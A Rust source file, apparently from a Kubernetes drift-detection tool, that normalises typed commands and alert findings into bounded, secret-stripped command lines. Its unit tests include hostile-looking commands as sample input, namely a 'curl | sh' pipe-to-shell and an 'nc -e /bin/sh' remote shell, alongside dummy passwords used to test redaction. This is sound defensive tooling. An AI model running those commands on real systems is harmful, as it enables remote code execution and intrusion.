//! What is asked for: without secrets, and templated as what it is compared with.

use anchorwatch_core::{
    behaviour::MAX_COMMAND,
    normalise,
    text::{bounded_line, command_line},
};
use anchorwatch_crds::v1alpha1::DriftAlert;

/// Of what somebody typed.
pub fn of_text(text: &str) -> String {
    let argv = arguments(text.trim());
    bounded_line(command_line(&normalise::command_line(argv)), MAX_COMMAND)
}

/// Of an alert's first finding about a process: its command line as it is, or the path of its program.
pub fn of_alert(alert: &DriftAlert) -> Option<String> {
    let findings = alert.status.iter().flat_map(|status| &status.findings);
    let mut asked = findings.filter_map(|finding| {
        let process = finding.behavior.process.as_ref()?;
        let line = process.command.as_ref().or(finding.attributes.commands.first());
        let line = line.unwrap_or(&process.executable).clone();
        Some(bounded_line(line, MAX_COMMAND))
    });
    asked.next()
}

/// The arguments as a shell would make them; where a shell would do more with it than that, it is a shell's program.
fn arguments(text: &str) -> Vec<String> {
    if text.is_empty() {
        return Vec::new();
    }
    match shlex::split(text) {
        Some(words) if !words.iter().any(|word| is_operator(word)) => words,
        Some(_) | None => ["sh", "-c", text].map(str::to_owned).to_vec(),
    }
}

/// Whether a word is none, or ends in what is none. Those in quotes have more beside it.
fn is_operator(word: &str) -> bool {
    let marks = |word: &str| !word.is_empty() && word.chars().all(|c| matches!(c, '|' | '&' | ';' | '<' | '>'));
    marks(word) || (word.ends_with(';') && !word.contains(char::is_whitespace))
}

/// A name that nobody guesses: who knows it may read the answer.
pub fn name() -> anyhow::Result<String> {
    let mut random = [0; 16];
    getrandom::fill(&mut random).map_err(|error| anyhow::anyhow!("no random number can be had: {error}"))?;
    Ok(format!("search-{:032x}", u128::from_le_bytes(random)))
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn what_is_typed_is_taken_as_a_shell_would() {
        for (typed, asked) in [
            ("bash -c \"curl -s x | sh\"", "bash -c 'curl -s x | sh'"),
            ("curl -s x | sh", "sh -c 'curl -s x | sh'"),
            ("nc -e /bin/sh", "nc -e /bin/sh"),
            ("it's", "sh -c 'it'\\''s'"),
            ("  ", ""),
        ] {
            assert_eq!(of_text(typed), asked, "{typed}");
        }
    }

    #[test]
    fn no_secret_that_is_typed_is_asked_for() {
        for typed in [
            "mysql -phunter2correct",
            "curl -u admin:hunter2correct http://x",
            "TOKEN=hunter2correct sh -c 'run | x'",
            "bash -c \"export PASSWORD=hunter2correct; x\"",
        ] {
            let asked = of_text(typed);
            assert!(!asked.contains("hunter2correct"), "{asked}");
        }
        assert!(of_text(&"x ".repeat(5_000)).len() <= MAX_COMMAND);
    }

    #[test]
    fn an_alert_is_asked_for_by_the_command_line_of_its_first_process() {
        let finding = |process: serde_json::Value| {
            json!({
                "id": "1", "rule": "unusual-command", "feed": "process", "summary": "s", "severity": "Low",
                "state": "Open", "count": 1, "pods": 1, "process": process,
                "firstSeen": "2026-01-01T00:00:00Z", "lastSeen": "2026-01-01T00:00:00Z",
            })
        };
        let process = |command: Option<&str>| {
            let mut process = json!({"origin": "entrypoint", "parent": "", "executable": "/bin/sh", "source": "image"});
            if let Some(command) = command {
                process["command"] = command.into();
            }
            process
        };
        let alert = |findings: Vec<serde_json::Value>| -> DriftAlert {
            serde_json::from_value(json!({"metadata": {"name": "a"}, "spec": {}, "status": {"workload": {"kind": "Deployment", "name": "a"}, "findings": findings}}))
                .unwrap()
        };
        assert_eq!(
            of_alert(&alert(vec![finding(process(Some("sh -c id")))])).unwrap(),
            "sh -c id"
        );
        assert_eq!(of_alert(&alert(vec![finding(process(None))])).unwrap(), "/bin/sh");
        assert_eq!(of_alert(&alert(vec![])), None);
    }

    #[test]
    fn names_differ_and_are_names() {
        let [one, other] = [name().unwrap(), name().unwrap()];
        assert_ne!(one, other);
        assert!(
            one.len() == 39 && one.chars().all(|c| c.is_ascii_alphanumeric() || c == '-'),
            "{one}"
        );
    }
}
